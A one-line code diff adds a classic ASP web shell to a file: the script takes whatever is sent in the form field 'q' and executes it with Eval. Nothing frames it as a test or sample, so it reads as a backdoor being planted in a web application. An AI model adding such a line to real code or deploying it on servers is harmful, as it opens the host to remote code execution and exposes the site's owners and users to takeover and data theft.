@@ -1,0 +1,1 @@
+<% Dim x : x = Request.Form("q") : Eval(x) %>
